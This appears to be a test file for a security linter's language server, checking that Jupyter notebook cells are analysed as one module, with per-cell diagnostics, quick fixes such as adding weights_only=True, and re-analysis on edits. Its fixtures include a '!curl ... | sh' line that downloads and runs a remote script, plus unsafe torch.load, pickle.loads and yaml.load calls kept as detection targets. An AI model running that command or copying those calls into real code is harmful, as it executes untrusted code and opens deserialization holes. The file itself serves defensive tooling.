// Notebooks in the editor over LSP notebook document sync: the code cells analysed as one
// module, diagnostics (with fixes) published per cell URI, quick fixes and hovers in a cell,
// re-analysis after cell edits and structure changes, and the disk scan's diagnostics on the
// .ipynb file replaced by the cells' while the notebook is open.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { CodeAction, Diagnostic, Hover, MarkupContent } from 'vscode-languageserver-protocol';
import { ruleById } from '../../server/src/core/rules/index';
import { TestClient } from './helpers/lspClient';
import { applyEdits } from './helpers/text';
import { makeWorkspace, removeWorkspace } from './helpers/workspace';

const NOTEBOOK_ON_DISK = JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: { kernelspec: { name: 'python3', language: 'python' } },
  cells: [{ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: ['import pickle\n', 'pickle.loads(b)\n'] }],
});

const at = (d: Diagnostic) => `${d.range.start.line}:${d.range.start.character} ${String(d.code)}`;

describe('language server: notebooks (LSP notebook document sync)', () => {
  let root: string;
  let client: TestClient;
  let nbUri: string;
  const cell = (n: number) => `vscode-notebook-cell:${new URL(nbUri).pathname}#cell${n}`;
  const texts = new Map<string, string>();
  let version = 1;

  before(async () => {
    root = makeWorkspace({ 'analysis.ipynb': NOTEBOOK_ON_DISK });
    client = await TestClient.start({ root });
    nbUri = client.uri('analysis.ipynb');
    await client.waitForProgressEnd();
  });

  after(() => {
    client?.kill();
    if (root) removeWorkspace(root);
  });

  it('declares notebook sync for Jupyter notebooks with Python cells', () => {
    assert.deepEqual(client.initializeResult.capabilities.notebookDocumentSync, {
      notebookSelector: [{ notebook: { notebookType: 'jupyter-notebook' }, cells: [{ language: 'python' }] }],
    });
  });

  it('the workspace scan reports the notebook file itself', async () => {
    const e = await client.waitForDiagnostics(nbUri, (ds) => ds.length > 0);
    assert.deepEqual(e.diagnostics.map((d) => d.code), ['MSL104']);
  });

  it('on open: cells analysed as one module (an import in cell 0 counts in cell 2), diagnostics per cell, the file cleared', async () => {
    texts.set(cell(0), 'import torch\nimport yaml\n');
    texts.set(cell(1), '# Loading the checkpoint\n');
    texts.set(cell(2), 'model = torch.load("model.pt")\n!curl -s https://example.com/x.sh | sh\n');
    const seq = client.seq;
    await client.connection.sendNotification('notebookDocument/didOpen', {
      notebookDocument: {
        uri: nbUri, notebookType: 'jupyter-notebook', version,
        cells: [{ kind: 2, document: cell(0) }, { kind: 1, document: cell(1) }, { kind: 2, document: cell(2) }],
      },
      cellTextDocuments: [
        { uri: cell(0), languageId: 'python', version: 1, text: texts.get(cell(0)) },
        { uri: cell(1), languageId: 'markdown', version: 1, text: texts.get(cell(1)) },
        { uri: cell(2), languageId: 'python', version: 1, text: texts.get(cell(2)) },
      ],
    });
    const c2 = await client.waitForDiagnostics(cell(2), (ds) => ds.length > 0, seq);
    assert.deepEqual(c2.diagnostics.map(at), ['0:8 MSL101', '1:1 MSL502']);
    assert.equal(c2.version, 1);
    assert.deepEqual((await client.waitForDiagnostics(cell(0), () => true, seq)).diagnostics, []);
    assert.deepEqual((await client.waitForDiagnostics(nbUri, () => true, seq)).diagnostics, [], 'disk diagnostics on the file are cleared');
    const fix = (c2.diagnostics[0]!.data as { fix: { title: string } }).fix;
    assert.equal(fix.title, 'Add weights_only=True');
  });

  it('quick fixes and hovers work in a cell, in cell coordinates', async () => {
    const d = client.latest(cell(2))!.diagnostics[0]!;
    const actions = (await client.connection.sendRequest('textDocument/codeAction', {
      textDocument: { uri: cell(2) }, range: d.range, context: { diagnostics: [d], only: ['quickfix'] },
    })) as CodeAction[];
    assert.equal(actions.length, 1);
    assert.equal(applyEdits(texts.get(cell(2))!, actions[0]!.edit!.changes![cell(2)]!), 'model = torch.load("model.pt", weights_only=True)\n!curl -s https://example.com/x.sh | sh\n');
    const hover = (await client.connection.sendRequest('textDocument/hover', { textDocument: { uri: cell(2) }, position: { line: 0, character: 12 } })) as Hover;
    assert.match((hover.contents as MarkupContent).value, /^\*\*MSL101: /);
  });

  it('re-analyses after a cell edit, with the cell version', async () => {
    texts.set(cell(2), 'model = torch.load("model.pt", weights_only=True)\n!curl -s https://example.com/x.sh | sh\n');
    const seq = client.seq;
    await client.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: nbUri, version: ++version },
      change: { cells: { textContent: [{ document: { uri: cell(2), version: 2 }, changes: [{ text: texts.get(cell(2)) }] }] } },
    });
    const e = await client.waitForDiagnostics(cell(2), () => true, seq);
    assert.equal(e.version, 2);
    assert.deepEqual(e.diagnostics.map(at), ['1:1 MSL502']);
  });

  it('re-analyses after a structure change: a new cell uses an import from cell 0', async () => {
    const seq = client.seq;
    await client.connection.sendNotification('notebookDocument/didChange', {
      notebookDocument: { uri: nbUri, version: ++version },
      change: {
        cells: {
          structure: {
            array: { start: 3, deleteCount: 0, cells: [{ kind: 2, document: cell(3) }] },
            didOpen: [{ uri: cell(3), languageId: 'python', version: 1, text: 'cfg = yaml.load(open("c.yaml"))\n' }],
          },
        },
      },
    });
    const e = await client.waitForDiagnostics(cell(3), (ds) => ds.length > 0, seq);
    assert.deepEqual(e.diagnostics.map(at), ['0:6 MSL111']);
    const fixAll = (await client.connection.sendRequest('textDocument/codeAction', {
      textDocument: { uri: cell(3) }, range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, context: { diagnostics: [], only: ['source.fixAll.msl'] },
    })) as CodeAction[];
    assert.equal(applyEdits('cfg = yaml.load(open("c.yaml"))\n', fixAll[0]!.edit!.changes![cell(3)]!), 'cfg = yaml.safe_load(open("c.yaml"))\n');
  });

  it('counts the open notebook once in the workspace summary', async () => {
    const total = (c: Record<string, number>) => Object.values(c).reduce((a, b) => a + b, 0);
    const s = await client.waitFor(() => { const last = client.summaries.at(-1); return last && total(last.counts) === 2 && last; }, 'summary: MSL502 + MSL111');
    assert.equal(s.filesWithFindings, 1);
    assert.equal(s.counts[ruleById('MSL502')!.severity], ruleById('MSL502')!.severity === ruleById('MSL111')!.severity ? 2 : 1);
  });

  it('on close: the cells are cleared and the file gets its disk diagnostics back', async () => {
    const seq = client.seq;
    await client.connection.sendNotification('notebookDocument/didClose', {
      notebookDocument: { uri: nbUri },
      cellTextDocuments: [0, 1, 2, 3].map((n) => ({ uri: cell(n) })),
    });
    for (const n of [2, 3]) assert.deepEqual((await client.waitForDiagnostics(cell(n), () => true, seq)).diagnostics, []);
    const e = await client.waitForDiagnostics(nbUri, (ds) => ds.length > 0, seq);
    assert.deepEqual(e.diagnostics.map((d) => d.code), ['MSL104']);
  });

  it('shuts down cleanly', async () => {
    assert.equal(await client.shutdown(), 0);
  });
});
